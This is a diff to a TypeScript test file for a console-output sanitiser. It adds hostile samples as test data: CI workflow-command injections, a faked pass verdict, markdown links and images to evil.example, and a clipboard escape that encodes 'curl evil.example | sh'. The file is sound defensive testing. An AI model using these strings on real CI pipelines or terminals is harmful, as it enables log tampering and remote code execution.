@@ -13,6 +13,8 @@ const PAYLOADS = {
   c1Csi: '\u009b31m',
   fakeVerdict: '\nCONFORMANT: All 51 MUST requirements pass\n',
   workflowCommand: '\n::error::the target wrote this\n  ::add-mask::x\r::stop-commands::token\n',
+  midLineCommand: 'note ::warning::mid-line and ##[stop-commands]token and ###[error]x',
+  markdown: '[click](https://evil.example) ![img](https://evil.example/p.png) <img src=x> | a | b | `code`',
   bidi: 'abc\u202edcba',
   gzip: '\u001f\u008b\u0008\u0000\u0000\u0000\u0000\u0000\u0000\u0003',
 };
@@ -21,9 +23,9 @@ const HOSTILE = Object.values(PAYLOADS).join(' ');
 // eslint-disable-next-line no-control-regex -- the point: no raw control character may remain
 const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e]/;
 
-/** Lines that would start a workflow command, and lines that claim a verdict. */
+/** Lines that would hold a workflow command (`::` anywhere, or `##[` anywhere), and lines that claim a verdict. */
 function dangerousLines(output: string): string[] {
-  return output.split('\n').filter((line) => line.trimStart().startsWith('::') || /^\s*CONFORMANT:/.test(line));
+  return output.split('\n').filter((line) => line.includes('::') || line.includes('##[') || /^\s*CONFORMANT:/.test(line));
 }
 
 function hostileReport() {
@@ -45,8 +47,9 @@ describe('one sanitiser for everything a target can put on the console', () => {
     expect(shownText(PAYLOADS.clearScreen)).toBe('\\x1b[2J\\x1b[H');
     expect(shownText(PAYLOADS.clipboard)).toBe('\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07');
     expect(shownText(PAYLOADS.c1Csi)).toBe('\\x9b31m');
-    expect(shownText('::error::x')).toBe('\\x3a:error::x');
-    expect(shownText('  ::warning::x')).toBe('  \\x3a:warning::x');
+    expect(shownText('::error::x')).toBe('\\x3a:error\\x3a:x');
+    expect(shownText('a ##[stop-commands]t :::b')).toBe('a \\x23#[stop-commands]t \\x3a\\x3a:b');
+    expect(shownText('  ::warning::x')).toBe('  \\x3a:warning\\x3a:x');
     expect(shownText(PAYLOADS.fakeVerdict)).toBe('\\nCONFORMANT: All 51 MUST requirements pass\\n');
     expect(shownText('a\u202eb\u200bc\ufeffd')).toBe('a\\u202eb\\u200bc\\ufeffd');
     expect(shownText('y'.repeat(1000), 100)).toBe(`${'y'.repeat(100)}… (900 more characters)`);
@@ -85,6 +88,17 @@ describe('one sanitiser for everything a target can put on the console', () => {
     const summary = stepSummary(hostileReport());
     expect(summary).not.toMatch(RAW_CONTROL);
     expect(dangerousLines(summary)).toEqual([]);
+  });
+
+  it('the step summary shows target text as text: no link, image, HTML tag or table cell from the target', () => {
+    // A fenced code block (the curl line) shows its text literally: only what lies outside is markup.
+    const summary = stepSummary(hostileReport()).replace(/\n {2}```sh\n[^\n]*\n {2}```/g, '');
+    expect(summary).toContain('evil.example');
+    expect(summary).not.toMatch(/(?<!\\)\]\(/);
+    expect(summary).not.toMatch(/(?<!\\)!\[/);
+    expect(summary).not.toMatch(/<img/);
+    const targetLines = summary.split('\n').filter((line) => line.includes('evil.example'));
+    for (const line of targetLines) expect(line, line).not.toMatch(/(?<!\\)\|/);
   });
 
   it('the HTML report shows the same payloads inert: C0, C1 and bidi controls as \\uXXXX, markup escaped', () => {
